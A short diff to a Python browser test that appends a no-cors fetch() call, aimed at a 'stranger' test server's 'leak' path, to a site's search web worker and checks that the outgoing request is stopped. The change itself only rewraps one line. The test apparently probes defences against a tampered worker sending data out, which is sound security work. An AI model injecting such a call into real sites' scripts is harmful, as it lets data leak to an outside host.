@@ -14,7 +14,9 @@ TRY = """;fetch("%s", { mode: "no-cors" }).then(() => "done", () => "stopped")
 def test_P1_the_search_finds_and_a_worker_that_has_been_tampered_with_reaches_no_stranger(tab, home, stranger, site):
     [worker] = site.glob("assets/javascripts/workers/search.*.js")
     home.provoked = True  # Firefox tells its console of what it stops
-    home.edits[worker.relative_to(site).as_posix()] = lambda source: source + TRY % (stranger.url + "leak", home.url + "heard")
+    home.edits[worker.relative_to(site).as_posix()] = lambda source: (
+        source + TRY % (stranger.url + "leak", home.url + "heard")
+    )
     tab.get(home.url + "sok/")
     assert result_from_engine(home) == {"fetch": "stopped"}
     until(lambda: tab.find_element(By.CSS_SELECTOR, "#sokord").is_displayed(), "the field is shown")
